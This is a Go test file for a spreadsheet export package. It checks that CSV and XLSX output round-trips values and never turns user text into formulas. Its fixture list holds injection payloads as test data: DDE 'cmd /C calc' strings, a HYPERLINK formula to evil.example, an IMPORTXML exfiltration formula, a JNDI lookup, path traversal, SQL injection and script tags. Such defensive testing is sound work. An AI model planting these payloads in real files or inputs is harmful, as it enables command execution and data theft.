package spreadsheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"temgoc/internal/trace"
)

// hostile are texts that programs might take for something else.
func hostile() []string {
	texts := []string{
		"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://x/\",A1))", "@SUM(1+1)*cmd|' /C calc'!A0",
		"+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "+84 912 345 678", "-", "+", "=", "@", "@user", "--", "==", "=-@+",
		"'=1+1", "''=1+1", "'", "''", "'quoted'", "'-", "＝1+1", "＋1", "－1", "＠SUM(1)", "'＝1",
		";=1+1", ",=1+1", "\"=1+1\"", "a\",=1+1,\"b", "a\n=1+1", "a;b", "a,b", "\"", "\"\"", "a\"b", "1;2\n3,4",
		"<script>alert(1)</script>", "</t></is></c><c><f>1+1</f></c>", "]]>", "&amp;", "&#61;1+1", "_x003D_1+1", "_x005F_x003D_", "_x000D_", "_x", "_xZZZZ_",
		"0012", "00", "1.200", "1,5", "1e5", "1E400", "12/11/2026", "2026-11-24", "3-4", "TRUE", "FALSE", "#REF!", "#N/A", "NULL", "0x1F", "12:30",
		"Chè Shan tuyết", "trà “một tôm hai lá”", "m²", "★★★★", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "ﬁ", "ẹ̀", "Việt Nam 🇻🇳", "مرحبا", strings.Repeat("dài ", 499) + "hết",
		"DDE(\"cmd\";\"/C calc\";\"x\")", "${jndi:ldap://x}", "../../etc/passwd", "%00", "Robert'); DROP TABLE--",
	}
	r := rand.New(rand.NewPCG(1, 2))
	letters := []rune("=+-@'\"\t\r\n;,|_x0D<>&aÀđ12. \u200b\ufeff")
	for range 500 {
		text := make([]rune, 1+r.IntN(8))
		for i := range text {
			text[i] = letters[r.IntN(len(letters))]
		}
		texts = append(texts, string(text))
	}
	// What is stored is clean.
	for i, s := range texts {
		texts[i] = trace.Clean(s)
	}
	return slices.DeleteFunc(texts, func(s string) bool { return s == "" })
}

var noted = Layout{
	Sheet: "Bảng", Lang: "vi", Guide: Guide{Sheet: "Hướng dẫn", Notes: []string{"Ngày viết 24/11/2026."}},
	Columns: []LayoutColumn{
		{Title: "Tên sản phẩm", Required: true, Width: 30, Doc: "Như trên bao bì"},
		{Title: "Khối lượng", Form: Number, Required: true, Width: 12},
		{Title: "Ngày thu hoạch", Form: Date, Width: 12},
		{Title: "Mã", Width: 12, Allowed: []string{"một", "hai, ba", "=1+1"}},
		{Title: "Lúc", Form: Instant, Width: 16},
	},
}

var notedHeadings = append(slices.Clone(fruit), Heading{Names: []string{"Lúc"}})

// export writes a table of rows.
func export(t testing.TB, f Format, l Layout, rows [][]Value) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(&b, f, l)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Discard()
	for _, r := range rows {
		if err := w.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestHostileTexts writes them in every column of text and reads them again,
// and holds that nothing in the file is a formula.
func TestHostileTexts(t *testing.T) {
	texts := hostile()
	if len(texts) < 400 {
		t.Fatalf("only %d texts", len(texts))
	}
	var rows [][]Value
	for _, s := range texts {
		rows = append(rows, []Value{TextValue(s), NumberValue("1"), {}, TextValue(s), {}})
	}
	for _, format := range []Format{CSV, XLSX} {
		content := export(t, format, noted, rows)
		table, err := Read("a."+string(format), content, notedHeadings)
		if err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if len(table.Rows) != len(texts) {
			t.Fatalf("%s: %d rows, want %d", format, len(table.Rows), len(texts))
		}
		for i, want := range texts {
			for _, column := range []int{0, 3} {
				if got, err := table.Rows[i].Cells[column].Text(); err != nil || got != want {
					t.Errorf("%s: %q is read as %q, %v", format, want, got, err)
				}
			}
		}
		checkHarmless(t, format, content)
	}
}

// checkHarmless looks for formulas in the bytes of a file.
func checkHarmless(t *testing.T, format Format, content []byte) {
	t.Helper()
	if format == CSV {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(content, byteOrderMark)))
		records, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, record := range records {
			for _, cell := range record {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || startsFormula(cell) {
					t.Errorf("a cell of the CSV file begins as a formula: %q", cell)
				}
			}
		}
		return
	}
	sheet := part(t, content, "xl/worksheets/sheet1.xml")
	if regexp.MustCompile(`<f[ >/]`).MatchString(sheet) {
		t.Error("a cell of the XLSX file has a formula")
	}
	for _, kind := range regexp.MustCompile(`<c r="B\d+"[^>]*>`).FindAllString(sheet, -1) {
		if !strings.Contains(kind, `t="inlineStr"`) || !strings.Contains(kind, ` s="`) {
			t.Fatalf("a text is stored as %s", kind)
		}
	}
}

// part is the text of a part of an XLSX file.
func part(t testing.TB, content []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestValuesRoundTrip(t *testing.T) {
	decimals := []trace.Decimal{"0", "1", "-5.5", "12.5", "1.234", "0.125", "999.999", "1234567.891", "123456789012345", "123456789012345.123456789", "0.000000001", "-0.1", ""}
	days := []trace.Date{trace.NewDate(2026, 11, 24), trace.NewDate(1900, 1, 1), trace.NewDate(9999, 12, 31), {}}
	instants := []time.Time{at(2026, 11, 24, 8, 30, 0, 0), at(2026, 11, 24, 0, 0, 0, 0), at(2026, 11, 24, 23, 59, 59, 999), at(1900, 2, 1, 3, 4, 5, 6), {}}
	var rows [][]Value
	for i, d := range decimals {
		rows = append(rows, []Value{TextValue("x"), NumberValue(d), DateValue(days[i%len(days)]), {}, InstantValue(instants[i%len(instants)])})
	}
	for _, format := range []Format{CSV, XLSX} {
		table, err := Read("a."+string(format), export(t, format, noted, rows), notedHeadings)
		if err != nil || len(table.Rows) != len(rows) {
			t.Fatalf("%s: %d rows, %v", format, len(table.Rows), err)
		}
		for i, r := range table.Rows {
			d, err1 := r.Cells[1].Decimal()
			day, err2 := r.Cells[2].Date()
			instant, err3 := r.Cells[4].Instant()
			if err := errors.Join(err1, err2, err3); err != nil {
				t.Errorf("%s: %v", format, err)
			}
			if d != decimals[i] || !day.Equal(days[i%len(days)]) || !instant.Equal(instants[i%len(instants)]) {
				t.Errorf("%s: %q, %v, %v is read as %q, %v, %v", format, decimals[i], days[i%len(days)], instants[i%len(instants)], d, day, instant)
			}
		}
	}
	if n := IntegerValue(-7); n.String() != "-7" {
		t.Errorf("a whole number is written %q", n)
	}
}

// TestTemplate holds that a template is read as an empty table, and shows what
// it offers.
func TestTemplate(t *testing.T) {
	l := noted
	l.Example = []Value{TextValue("Cam sành"), NumberValue("1.234"), DateValue(trace.NewDate(2026, 11, 24)), TextValue("một"), {}}
	for _, lang := range []string{"vi", "en"} {
		l.Lang = lang
		for _, format := range []Format{CSV, XLSX} {
			table, err := Read("a."+string(format), export(t, format, l, nil), notedHeadings)
			if err != nil || len(table.Rows) != 0 || len(table.Unknown) != 0 {
				t.Errorf("%s template in %q: %+v, %v", format, lang, table, err)
			}
		}
	}
	l.Lang = "vi"
	head, _, _ := strings.Cut(string(export(t, CSV, l, nil)), "\r\n")
	if want := "\ufeffTT,Tên sản phẩm *,Khối lượng *,Ngày thu hoạch,Mã,Lúc"; head != want {
		t.Errorf("headings %q, want %q", head, want)
	}
	content := export(t, XLSX, l, nil)
	sheet, guide := part(t, content, "xl/worksheets/sheet1.xml"), part(t, content, "xl/worksheets/sheet2.xml")
	for _, want := range []string{`state="frozen"`, `<formula1>&#39;Hướng dẫn&#39;!$G$2:$G$4</formula1>`, `sqref="E2:E5002"`, "Ví dụ"} {
		if !strings.Contains(sheet, want) && !strings.Contains(sheet, strings.ReplaceAll(want, "&#39;", "'")) {
			t.Errorf("the sheet does not have %s", want)
		}
	}
	if strings.Contains(guide, "<f>") {
		t.Error("the guide has a formula")
	}
	texts := part(t, content, "xl/sharedStrings.xml")
	for _, want := range []string{"Như trên bao bì", "Ngày viết 24/11/2026.", "Giá trị cho phép: Mã", "hai, ba", "1,2340"} {
		if !strings.Contains(texts, want) {
			t.Errorf("the guide does not say %q", want)
		}
	}
}

// TestLongNote writes a note that is higher than a row can be.
func TestLongNote(t *testing.T) {
	l := noted
	l.Guide.Notes = []string{strings.Repeat("Ghi chú dài. ", 1000)}
	if guide := part(t, export(t, XLSX, l, nil), "xl/worksheets/sheet2.xml"); !strings.Contains(guide, `ht="409"`) {
		t.Error("the row is not as high as it can be")
	}
}

// TestLargeExport writes more rows than can be read, so many that they go
// through a file on disk, and holds that no file is left behind.
func TestLargeExport(t *testing.T) {
	temporary := t.TempDir()
	t.Setenv("TMPDIR", temporary)
	const n = 60_000
	row := []Value{TextValue(strings.Repeat("Chè Shan tuyết ", 10)), NumberValue("1"), DateValue(trace.NewDate(2026, 11, 24)), {}, {}}
	content := export(t, XLSX, noted, slices.Repeat([][]Value{row}, n))
	sheet := part(t, content, "xl/worksheets/sheet1.xml")
	if got := strings.Count(sheet, "<row "); got != n+1 {
		t.Errorf("%d rows, want %d", got, n+1)
	}
	if left, err := os.ReadDir(temporary); err != nil || len(left) > 0 {
		t.Errorf("%v is left behind, %v", left, err)
	}
	if _, err := Read("a.xlsx", content, notedHeadings); !IsFault(err) {
		t.Errorf("so many rows are read: %v", err)
	}
}

func TestFormats(t *testing.T) {
	if _, err := NewWriter(io.Discard, "ods", noted); err == nil {
		t.Error("ods is written")
	}
	if XLSX.Known() != true || CSV.Known() != true || Format("").Known() {
		t.Error("formats are not told apart")
	}
	if !strings.HasPrefix(CSV.MediaType(), "text/csv") || !strings.Contains(XLSX.MediaType(), "spreadsheetml") {
		t.Error("media types")
	}
	failing := writerFunc(func([]byte) (int, error) { return 0, io.ErrClosedPipe })
	for _, format := range []Format{CSV, XLSX} {
		w, err := NewWriter(failing, format, noted)
		if err == nil {
			err = w.Close()
			w.Discard()
		}
		if !errors.Is(err, io.ErrClosedPipe) {
			t.Errorf("%s: %v", format, err)
		}
	}
	if diff := cmp.Diff("1.234 → 1,2340", fmt.Sprintf("1.234 → %s", NumberValue("1.234"))); diff != "" {
		t.Error(diff)
	}
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }
